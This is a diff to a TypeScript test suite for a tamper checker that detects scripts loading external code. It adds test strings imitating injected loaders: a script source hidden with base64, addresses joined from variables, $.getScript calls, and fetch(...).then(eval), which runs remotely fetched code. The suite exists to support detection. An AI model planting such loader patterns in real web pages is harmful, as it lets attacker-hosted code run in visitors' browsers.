@@ -1,6 +1,6 @@
 /** Evaluating the string expressions scripts build markup with: variables, arrays, decoders; nothing else. */
-import { evalString, expressionEnd, stringBindings } from '../../../checks/tamper/js-strings';
-import { writtenHtml } from '../../../checks/tamper/scripts';
+import { evalString, expressionEnd, leadingString, stringBindings } from '../../../checks/tamper/js-strings';
+import { createdResources, writtenHtml } from '../../../checks/tamper/scripts';
 
 const html = (code: string) => writtenHtml(code).map((w) => w.html);
 
@@ -31,5 +31,21 @@ describe('string variables and arrays', () => {
     const b = stringBindings(code);
     expect(Date.now() - t0).toBeLessThan(3000);
     expect(b.size).toBeLessThanOrEqual(500);
+  });
+});
+
+describe('addresses a script loads', () => {
+  it('knows the start of a computed address, and no more', () => {
+    const vars = new Map([['host', 'http://cdn.x.xyz']]);
+    expect(leadingString(`host + '/a.js?v=' + Date.now()`, vars)).toBe('http://cdn.x.xyz/a.js?v=');
+    expect(leadingString(`location.protocol + '//a.b/'`, vars)).toBeUndefined();
+  });
+  it('vets scripts created with decoded, joined or variable addresses, and code fetched to run', () => {
+    const src = (code: string) => createdResources(code).map((c) => `${c.kind} ${c.src}${c.loaded ? ' loaded' : ''}`);
+    expect(src(`var s=document.createElement('script');s.src=atob('aHR0cDovL2EudG9wL3guanM=');`)).toEqual(['script http://a.top/x.js']);
+    expect(src(`var h='http://'+'b.xyz';var s=document.createElement('script');s.src=h+'/j.js?'+Math.random();`)).toEqual(['script http://b.xyz/j.js?']);
+    expect(src(`$.getScript('http://c.top/s.js');fetch('https://d.top/p').then(eval);`)).toEqual(['script http://c.top/s.js loaded', 'script https://d.top/p loaded']);
+    // Not addresses: a host still being built, a relative module, JSON parsed with eval.
+    expect(src(`var s=document.createElement('script');s.src='http://cdn.'+region+'/x.js';import('./m.js');$.ajax({url:'http://api.e.cn/w'});var d=eval('('+res+')');`)).toEqual([]);
   });
 });
